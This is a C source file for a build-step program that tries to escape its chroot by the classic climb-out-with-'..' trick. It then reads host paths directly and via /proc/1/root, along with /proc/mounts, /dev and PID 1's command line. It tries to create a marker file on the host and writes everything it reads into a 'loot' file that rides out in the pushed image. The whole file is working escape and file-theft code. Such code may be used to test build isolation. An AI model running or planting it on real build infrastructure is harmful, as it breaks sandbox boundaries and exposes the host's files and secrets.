/* A build step that tries to leave its root the classic way (chroot into a subfolder, climb
 * out with "..", chroot there) and then reads what it was given on the command line, and the
 * same paths under /proc/1/root. Everything it manages to read goes into the file argv[1],
 * which was opened inside the image before the attempt, so the pushed image shows the loot.
 *
 * usage: escape LOOT MARKER PATH...   (MARKER: a file it tries to create on the host) */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static FILE *loot;

static void grab(const char *path) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        fprintf(loot, "open %s: %s\n", path, strerror(errno));
        return;
    }
    struct stat info;
    if (fstat(fd, &info) == 0 && S_ISDIR(info.st_mode)) {
        DIR *dir = fdopendir(fd);
        struct dirent *entry;
        while (dir && (entry = readdir(dir)) != NULL)
            fprintf(loot, "list %s: %s\n", path, entry->d_name);
        if (dir) closedir(dir);
        return;
    }
    char buffer[65536];
    ssize_t count;
    fprintf(loot, "read %s:\n", path);
    while ((count = read(fd, buffer, sizeof buffer)) > 0)
        fwrite(buffer, 1, (size_t)count, loot);
    fprintf(loot, "\nend %s\n", path);
    close(fd);
}

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    loot = fopen(argv[1], "w");
    if (!loot) return 3;
    mkdir("escape-sub", 0755);
    if (chroot("escape-sub") != 0) fprintf(loot, "chroot escape-sub: %s\n", strerror(errno));
    for (int i = 0; i < 64; i++) chdir("..");
    if (chroot(".") != 0) fprintf(loot, "chroot .: %s\n", strerror(errno));
    int marker = open(argv[2], O_WRONLY | O_CREAT, 0644);
    fprintf(loot, "create %s: %s\n", argv[2], marker < 0 ? strerror(errno) : "done");
    char path[4096];
    for (int i = 3; i < argc; i++) {
        grab(argv[i]);
        snprintf(path, sizeof path, "/proc/1/root%s", argv[i]);
        grab(path);
    }
    grab("/");
    grab("/proc/1/root/");
    grab("/proc/1/cmdline");
    grab("/proc/mounts");
    grab("/dev");
    fprintf(loot, "escape attempt finished\n");
    fclose(loot);
    return 0;
}
